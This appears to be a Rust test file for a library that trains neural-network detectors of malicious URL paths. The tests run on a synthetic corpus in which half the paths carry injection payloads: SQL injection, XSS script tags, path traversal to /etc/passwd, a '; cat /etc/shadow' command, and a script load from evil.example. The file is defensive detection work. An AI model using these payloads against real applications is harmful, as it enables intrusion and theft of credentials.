//! The Burn networks on a synthetic toy task (injection payloads inside otherwise benign
//! paths): each architecture learns it, training is reproducible, scores do not depend on the
//! batch, saved models score the same, and bad configs or files fail with the right error.

use vigie_data::Label;
use vigie_data::text::{SECURITY_TOKEN_PATTERN, SequenceUnit};
use vigie_models::metrics::roc_auc;
use vigie_models::nn::{
    Backend, CnnConfig, MlpConfig, Monitor, NetworkModel, NetworkSpec, Pooling, RnnConfig,
    TrainingConfig, fit,
};
use vigie_models::{
    LabelledTexts, ModelError, NoObserver, Persist, Scorer, TrainData, TrainObserver,
};

const PAYLOADS: [&str; 8] = [
    "' or 1=1 --",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "1 union select password from users",
    "\"><img src=x onerror=alert(2)>",
    "; cat /etc/shadow",
    "admin'--",
    "<script src=//evil.example/x.js>",
];

const WORDS: [&str; 12] = [
    "images", "blog", "index", "static", "news", "user", "cart", "about", "docs", "photo",
    "search", "shop",
];

/// A deterministic toy corpus: half benign paths, half the same kind of path carrying a payload.
fn toy(n: usize, seed: u64) -> (Vec<String>, Vec<Label>) {
    let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut next = move |bound: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % bound as u64) as usize
    };
    let mut texts = Vec::with_capacity(n);
    let mut labels = Vec::with_capacity(n);
    for i in 0..n {
        let mut path = format!("/{}/{}", WORDS[next(WORDS.len())], WORDS[next(WORDS.len())]);
        match next(3) {
            0 => path.push_str(&format!("/{}.png", next(1000))),
            1 => path.push_str(&format!(".php?id={}&page={}", next(500), next(9))),
            _ => path.push_str(&format!("?q={}", WORDS[next(WORDS.len())])),
        }
        if i % 2 == 1 {
            path.push_str(PAYLOADS[next(PAYLOADS.len())]);
            labels.push(Label::Malicious);
        } else {
            labels.push(Label::Benign);
        }
        texts.push(path);
    }
    (texts, labels)
}

struct Toy {
    train: (Vec<String>, Vec<Label>),
    valid: (Vec<String>, Vec<Label>),
    test: (Vec<String>, Vec<Label>),
}

fn toy_splits() -> Toy {
    Toy {
        train: toy(600, 1),
        valid: toy(200, 2),
        test: toy(300, 3),
    }
}

fn texts(split: &(Vec<String>, Vec<Label>)) -> Vec<&str> {
    split.0.iter().map(String::as_str).collect()
}

fn train_data<'a>(toy: &'a Toy, seed: u64, threads: usize) -> TrainData<'a> {
    TrainData {
        train: LabelledTexts::new(texts(&toy.train), toy.train.1.clone()),
        valid: LabelledTexts::new(texts(&toy.valid), toy.valid.1.clone()),
        seed,
        threads,
    }
}

fn quick_training(epochs: usize) -> TrainingConfig {
    TrainingConfig {
        epochs,
        batch_size: 32,
        learning_rate: 5e-3,
        patience: 0,
        ..TrainingConfig::default()
    }
}

fn small_mlp() -> NetworkSpec {
    let mut config = MlpConfig {
        hidden: vec![32],
        training: quick_training(4),
        ..MlpConfig::default()
    };
    config.hashing.n_features = 1 << 12;
    NetworkSpec::Mlp(config)
}

fn small_cnn() -> NetworkSpec {
    let mut config = CnnConfig {
        embedding_dim: 16,
        filters: 32,
        kernel_size: 3,
        dense: 16,
        dropout: 0.2,
        training: quick_training(4),
        ..CnnConfig::default()
    };
    config.sequence.max_len = 96;
    NetworkSpec::Cnn(config)
}

fn small_rnn(training: TrainingConfig) -> RnnConfig {
    let mut config = RnnConfig {
        embedding_dim: 16,
        hidden: 16,
        training,
        ..RnnConfig::default()
    };
    config.sequence.max_len = 96;
    config
}

fn test_auc(model: &NetworkModel, toy: &Toy) -> f64 {
    roc_auc(&model.score_batch(&texts(&toy.test)), &toy.test.1)
}

#[derive(Default)]
struct Recorder {
    epochs: Vec<Vec<(String, f64)>>,
    notes: Vec<String>,
    phases: Vec<(String, Option<u64>)>,
    advanced: u64,
}

impl Recorder {
    fn metric(&self, epoch: usize, name: &str) -> f64 {
        self.epochs[epoch]
            .iter()
            .find(|(key, _)| key == name)
            .map(|&(_, value)| value)
            .unwrap_or(f64::NAN)
    }
}

impl TrainObserver for Recorder {
    fn phase(&mut self, name: &str, total: Option<u64>) {
        self.phases.push((name.to_owned(), total));
    }

    fn advance(&mut self, units: u64) {
        self.advanced += units;
    }

    fn epoch(&mut self, _step: u64, metrics: &[(&str, f64)]) {
        self.epochs.push(
            metrics
                .iter()
                .map(|&(key, value)| (key.to_owned(), value))
                .collect(),
        );
    }

    fn note(&mut self, message: &str) {
        self.notes.push(message.to_owned());
    }
}

#[test]
fn mlp_learns_the_toy_task() {
    let toy = toy_splits();
    let mut recorder = Recorder::default();
    let model = fit(&small_mlp(), &train_data(&toy, 7, 0), &mut recorder).expect("fits");
    let auc = test_auc(&model, &toy);
    assert!(auc > 0.95, "test ROC-AUC {auc}");
    assert_eq!(recorder.epochs.len(), 4);
    // One progress unit per mini-batch: 600 examples by 32.
    assert_eq!(recorder.advanced, 4 * 600_u64.div_ceil(32));
    assert!(
        recorder
            .phases
            .iter()
            .any(|(name, total)| name == "epoch 1/4" && *total == Some(19))
    );
    for key in ["train_loss", "valid_loss", "valid_roc_auc", "epoch_seconds"] {
        assert!(recorder.metric(3, key).is_finite(), "{key}");
    }
    assert!(recorder.metric(3, "train_loss") < recorder.metric(0, "train_loss"));
    assert_eq!(model.default_threshold(), 0.5);
}

#[test]
fn cnn_learns_the_toy_task() {
    let toy = toy_splits();
    let model = fit(&small_cnn(), &train_data(&toy, 7, 0), &mut NoObserver).expect("fits");
    let auc = test_auc(&model, &toy);
    assert!(auc > 0.95, "test ROC-AUC {auc}");
}

#[test]
fn char_lstm_learns_the_toy_task() {
    let toy = toy_splits();
    let spec = NetworkSpec::Lstm(small_rnn(quick_training(4)));
    let model = fit(&spec, &train_data(&toy, 7, 0), &mut NoObserver).expect("fits");
    let auc = test_auc(&model, &toy);
    assert!(auc > 0.95, "test ROC-AUC {auc}");
}

#[test]
fn token_bilstm_with_max_pooling_learns_the_toy_task() {
    let toy = toy_splits();
    let mut config = small_rnn(quick_training(4));
    config.sequence.unit = SequenceUnit::Token {
        pattern: SECURITY_TOKEN_PATTERN.to_owned(),
    };
    config.pooling = Pooling::Max;
    let model = fit(
        &NetworkSpec::BiLstm(config),
        &train_data(&toy, 7, 0),
        &mut NoObserver,
    )
    .expect("fits");
    let auc = test_auc(&model, &toy);
    assert!(auc > 0.95, "test ROC-AUC {auc}");
}

/// Padding is masked: a text scores the same alone and in a batch with much longer texts.
#[test]
fn scores_do_not_depend_on_the_batch() {
    let toy = toy_splits();
    let specs = [
        small_cnn(),
        NetworkSpec::BiLstm(small_rnn(quick_training(1))),
    ];
    let long = format!("/{}", "a/".repeat(40));
    for mut spec in specs {
        match &mut spec {
            NetworkSpec::Cnn(config) => config.training.epochs = 1,
            NetworkSpec::BiLstm(config) => config.pooling = Pooling::Max,
            _ => {}
        }
        let model = fit(&spec, &train_data(&toy, 3, 0), &mut NoObserver).expect("fits");
        for text in ["", "/a", "/index.php?id=1' or 1=1 --"] {
            let alone = model.score_one(text);
            let batched = model.score_batch(&[long.as_str(), text, "/x"])[1];
            assert!(
                (alone - batched).abs() < 1e-6,
                "{}: {text:?} alone {alone}, in a batch {batched}",
                spec.kind()
            );
        }
    }
}

#[test]
fn same_seed_same_model_bit_for_bit() {
    let toy = toy_splits();
    let spec = NetworkSpec::BiLstm(small_rnn(quick_training(2)));
    let run = |seed: u64, threads: usize| {
        let mut recorder = Recorder::default();
        let model = fit(&spec, &train_data(&toy, seed, threads), &mut recorder).expect("fits");
        let scores: Vec<u64> = model
            .score_batch(&texts(&toy.test))
            .iter()
            .map(|s| s.to_bits())
            .collect();
        let losses: Vec<u64> = (0..recorder.epochs.len())
            .map(|e| recorder.metric(e, "train_loss").to_bits())
            .collect();
        (scores, losses)
    };
    let first = run(11, 2);
    assert_eq!(first, run(11, 2), "same seed, same threads");
    assert_eq!(first, run(11, 1), "same seed, one thread");
    assert_ne!(first.0, run(12, 2).0, "another seed gives another model");
}

#[test]
fn saved_models_score_the_same_and_bad_files_are_named() {
    let toy = toy_splits();
    let test_texts = texts(&toy.test);
    for spec in [small_mlp(), small_cnn()] {
        let mut spec = spec;
        match &mut spec {
            NetworkSpec::Mlp(config) => config.training.epochs = 1,
            NetworkSpec::Cnn(config) => config.training.epochs = 1,
            _ => {}
        }
        let model = fit(&spec, &train_data(&toy, 5, 0), &mut NoObserver).expect("fits");
        let dir = tempfile::tempdir().expect("tempdir");
        model.save(dir.path()).expect("saves");
        let loaded = NetworkModel::load(dir.path()).expect("loads");
        assert_eq!(loaded.spec(), &spec);
        let bits = |scores: Vec<f64>| scores.iter().map(|s| s.to_bits()).collect::<Vec<_>>();
        assert_eq!(
            bits(loaded.score_batch(&test_texts)),
            bits(model.score_batch(&test_texts))
        );

        let weights = dir.path().join("weights.bpk");
        let mut bytes = std::fs::read(&weights).expect("weights");
        bytes.truncate(bytes.len() / 2);
        std::fs::write(&weights, &bytes).expect("truncate");
        match NetworkModel::load(dir.path()) {
            Err(ModelError::Artifact { path, .. }) => assert_eq!(path, weights),
            other => panic!("expected an artifact error, got {other:?}"),
        }
        std::fs::write(&weights, b"not a burnpack file").expect("garbage");
        match NetworkModel::load(dir.path()) {
            Err(ModelError::Artifact { path, .. }) => assert_eq!(path, weights),
            other => panic!("expected an artifact error, got {other:?}"),
        }
        let network = dir.path().join("network.json");
        std::fs::write(&network, b"{\"format_version\": 1}").expect("network.json");
        match NetworkModel::load(dir.path()) {
            Err(ModelError::Artifact { path, .. }) => assert_eq!(path, network),
            other => panic!("expected an artifact error, got {other:?}"),
        }
    }
}

fn config_error(spec: &NetworkSpec) -> String {
    match spec.validate() {
        Err(ModelError::InvalidConfig { field, .. }) => field,
        other => panic!("expected an invalid config, got {other:?}"),
    }
}

#[test]
fn invalid_configs_name_the_key() {
    let cnn = |edit: fn(&mut CnnConfig)| {
        let mut config = CnnConfig::default();
        edit(&mut config);
        NetworkSpec::Cnn(config)
    };
    assert_eq!(config_error(&cnn(|c| c.filters = 0)), "model.filters");
    assert_eq!(
        config_error(&cnn(|c| c.kernel_size = c.sequence.max_len + 1)),
        "model.kernel_size"
    );
    assert_eq!(config_error(&cnn(|c| c.dropout = 1.0)), "model.dropout");
    assert_eq!(
        config_error(&cnn(|c| c.sequence.max_len = 0)),
        "model.sequence.max_len"
    );
    assert_eq!(
        config_error(&cnn(|c| c.training.epochs = 0)),
        "model.training.epochs"
    );
    assert_eq!(
        config_error(&cnn(|c| c.training.learning_rate = f64::NAN)),
        "model.training.learning_rate"
    );
    let rnn = RnnConfig {
        hidden: 0,
        ..RnnConfig::default()
    };
    assert_eq!(config_error(&NetworkSpec::BiLstm(rnn)), "model.hidden");
    let mut mlp = MlpConfig {
        hidden: vec![64, 0],
        ..MlpConfig::default()
    };
    assert_eq!(
        config_error(&NetworkSpec::Mlp(mlp.clone())),
        "model.hidden[1]"
    );
    mlp.hidden = vec![64];
    mlp.hashing.n_features = 0;
    assert_eq!(
        config_error(&NetworkSpec::Mlp(mlp)),
        "model.hashing.n_features"
    );

    let wgpu = cnn(|c| c.training.backend = Backend::Wgpu);
    if cfg!(feature = "wgpu") {
        assert!(wgpu.validate().is_ok());
    } else {
        assert_eq!(config_error(&wgpu), "model.training.backend");
        let toy = toy_splits();
        assert!(matches!(
            fit(&wgpu, &train_data(&toy, 1, 1), &mut NoObserver),
            Err(ModelError::InvalidConfig { .. })
        ));
    }
    // Unknown keys are refused when the spec is read.
    let parsed: Result<NetworkSpec, _> =
        serde_json::from_str(r#"{"kind": "cnn", "config": {"filtres": 8}}"#);
    assert!(parsed.is_err());
}

#[test]
fn training_data_without_both_classes_is_refused() {
    let toy = toy_splits();
    let mut data = train_data(&toy, 1, 1);
    data.train.labels = vec![Label::Benign; data.train.len()];
    assert!(matches!(
        fit(&small_mlp(), &data, &mut NoObserver),
        Err(ModelError::Data(_))
    ));
}

/// With validation labels flipped, the validation loss rises as the network learns the
/// training split: training stops `patience` epochs after the best epoch and keeps its weights.
#[test]
fn early_stopping_restores_the_best_epoch() {
    let toy = toy_splits();
    let mut data = train_data(&toy, 9, 0);
    let flipped: Vec<Label> = toy
        .valid
        .1
        .iter()
        .map(|l| {
            if l.is_malicious() {
                Label::Benign
            } else {
                Label::Malicious
            }
        })
        .collect();
    data.valid.labels = flipped.clone();
    let mut spec = small_mlp();
    if let NetworkSpec::Mlp(config) = &mut spec {
        config.training.epochs = 8;
        config.training.patience = 2;
        config.training.monitor = Monitor::ValidLoss;
    }
    let mut recorder = Recorder::default();
    let model = fit(&spec, &data, &mut recorder).expect("fits");
    let losses: Vec<f64> = (0..recorder.epochs.len())
        .map(|e| recorder.metric(e, "valid_loss"))
        .collect();
    let best = losses.iter().enumerate().fold(
        0,
        |best, (e, &loss)| if loss < losses[best] { e } else { best },
    );
    assert!(recorder.epochs.len() < 8, "stopped early: {losses:?}");
    assert_eq!(recorder.epochs.len(), best + 1 + 2, "{losses:?}");
    let scores = model.score_batch(&texts(&toy.valid));
    let restored = scores
        .iter()
        .zip(&flipped)
        .map(|(&p, l)| {
            -(if l.is_malicious() { p } else { 1.0 - p })
                .max(1e-300)
                .ln()
        })
        .sum::<f64>()
        / scores.len() as f64;
    let last = *losses.last().expect("epochs");
    assert!(
        (restored - losses[best]).abs() < 1e-4 * losses[best].max(1.0),
        "{restored} {losses:?}"
    );
    assert!((restored - last).abs() > 1e-3, "{restored} {losses:?}");
    assert!(
        recorder
            .notes
            .iter()
            .any(|note| note.contains(&format!("best epoch {} restored", best + 1))),
        "{:?}",
        recorder.notes
    );
}

/// Stops after a given epoch, or after a given number of batches (Ctrl-C, a pruning rule).
struct StopAt {
    after_epoch: Option<u64>,
    after_batches: Option<u64>,
    epochs: u64,
    batches: u64,
}

impl TrainObserver for StopAt {
    fn advance(&mut self, units: u64) {
        self.batches += units;
    }

    fn epoch(&mut self, step: u64, _metrics: &[(&str, f64)]) {
        self.epochs = step;
    }

    fn stop_requested(&mut self) -> Option<String> {
        let epoch_reached = self.after_epoch.is_some_and(|e| self.epochs >= e);
        let batches_reached = self.after_batches.is_some_and(|b| self.batches >= b);
        (epoch_reached || batches_reached).then(|| "asked to stop".to_owned())
    }
}

#[test]
fn training_stops_when_the_observer_asks_after_an_epoch_or_mid_epoch() {
    let toy = toy_splits();
    let data = train_data(&toy, 3, 1);
    let mut spec = small_mlp();
    if let NetworkSpec::Mlp(config) = &mut spec {
        config.training.epochs = 5;
        config.training.patience = 0;
    }
    let mut after_one = StopAt {
        after_epoch: Some(1),
        after_batches: None,
        epochs: 0,
        batches: 0,
    };
    let stopped = fit(&spec, &data, &mut after_one);
    assert!(matches!(stopped, Err(ModelError::Stopped(ref r)) if r == "asked to stop"));
    assert_eq!(after_one.epochs, 1, "no epoch after the request");
    let mut mid_epoch = StopAt {
        after_epoch: None,
        after_batches: Some(2),
        epochs: 0,
        batches: 0,
    };
    assert!(matches!(
        fit(&spec, &data, &mut mid_epoch),
        Err(ModelError::Stopped(_))
    ));
    assert_eq!(mid_epoch.batches, 2, "stopped at the next batch");
    assert_eq!(mid_epoch.epochs, 0);
}
